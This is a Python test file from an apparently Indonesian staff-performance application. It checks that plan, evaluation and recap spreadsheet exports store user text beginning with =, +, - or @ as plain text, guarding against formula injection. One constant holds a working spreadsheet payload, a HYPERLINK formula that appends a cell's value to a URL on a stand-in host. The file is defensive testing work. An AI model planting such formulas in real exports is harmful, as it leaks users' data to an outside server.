"""Formula injection (issue #9 item 3): text a user typed that starts with =, +, - or @ is a
text cell (data type "s", quote prefix) in every export, exactly as typed."""

from __future__ import annotations

import io
from collections.abc import Iterator

from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import Cell
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from models import Employee, Evaluation, EvaluationStatus
from services.documents import evaluation_document, plan_document
from services.documents.xlsx import to_xlsx as document_xlsx
from services.plans import save_draft
from services.recap.access import ScopeKind, Viewer
from services.recap.exports import ExportKind, daily_report, progress_report, tpp_recap
from services.recap.months import Month
from services.spreadsheet import append_row, set_value
from tests.services.plan_helpers import final_evaluation, iki, make_plan_org, rhk
from tests.services.recap_helpers import NOW, add_activity, link, make_recap_org

LEAK = '=HYPERLINK("http://x?leak="&B5,"Lihat bukti")'
PLUS = "+62 811 000 (telepon)"
MINUS = "-1+1 rapat ditunda"
AT = "@SUM(A1:A9)"
TYPED = (LEAK, PLUS, MINUS, AT)


def cells(data: bytes) -> Iterator[Cell]:
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_all_text(data: bytes, expected: tuple[str, ...]) -> None:
    found = list(cells(data))
    assert not [c.coordinate for c in found if c.data_type == "f"]
    risky = [c for c in found if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert all(c.data_type == "s" and c.quotePrefix for c in risky), [
        (c.coordinate, c.data_type) for c in risky
    ]
    values = [c.value for c in risky]
    for text in expected:
        assert text in values, (text, values)


def test_a_cell_written_safely_stays_text_after_saving() -> None:
    workbook = Workbook()
    sheet = workbook.active
    set_value(sheet["A1"], LEAK)
    append_row(sheet, ["\x01bad\x02 " + AT, 5, None])
    buffer = io.BytesIO()
    workbook.save(buffer)

    loaded = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert (loaded["A1"].value, loaded["A1"].data_type, loaded["A1"].quotePrefix) == (
        LEAK,
        "s",
        True,
    )
    # Control characters XML cannot hold are dropped, not fatal.
    assert loaded["A2"].value == "bad " + AT
    assert (loaded["B2"].value, loaded["B2"].data_type) == (5, "n")


async def test_skp_and_evaluation_spreadsheets(
    session: AsyncSession, session_factory: async_sessionmaker[AsyncSession]
) -> None:
    org = await make_plan_org(session, NOW)
    org.staff.name = AT
    await session.commit()
    plan = await save_draft(session, org.staff, 2026, [rhk(LEAK, None, iki(MINUS))], now=NOW)
    evaluation = await final_evaluation(
        session, org.staff, org.boss, "2026-Q1", "baik", NOW, EvaluationStatus.FINAL
    )
    evaluation.employee_response = PLUS
    evaluation.recommendation = LEAK
    await session.commit()

    skp = document_xlsx(await plan_document(session, plan))
    async with session_factory() as fresh:
        loaded = await fresh.get(Evaluation, evaluation.id)
        assert loaded is not None
        evaluation_file = document_xlsx(await evaluation_document(fresh, loaded, plan))

    assert_all_text(skp, (LEAK, MINUS, AT))
    assert_all_text(evaluation_file, (LEAK, AT))
    assert any(isinstance(c.value, str) and PLUS in c.value for c in cells(evaluation_file))


async def test_recap_exports(session: AsyncSession) -> None:
    org = await make_recap_org(session)
    staff = await session.get(Employee, org.staff.id)
    assert staff is not None
    staff.name, staff.position = AT, MINUS
    await session.commit()
    plan = await save_draft(session, org.staff, 2026, [rhk(PLUS, None, iki())], now=NOW)
    await add_activity(
        session,
        org.staff,
        2,
        120,
        description=LEAK,
        unit="@dok",
        quantity=1,
        plan_item_id=plan.items[0].id,
        decided_by=org.boss,
        reason=MINUS,
        evidence=[link("https://x.example/=1")],
    )
    march, boss = Month(2026, 3), Viewer.of(org.boss)

    daily = await daily_report(session, boss, org.staff.id, march, ExportKind.DAILY_XLSX, NOW)
    progress = await progress_report(
        session, boss, ScopeKind.TEAM, org.boss.id, march.start, march.end, NOW
    )
    tpp = await tpp_recap(session, boss, ScopeKind.TEAM, org.boss.id, march, NOW)

    assert_all_text(daily.data, (LEAK, AT, MINUS, PLUS, "@dok"))
    assert_all_text(progress.data, (LEAK, PLUS, "@dok"))
    assert_all_text(tpp.data, (AT, MINUS))
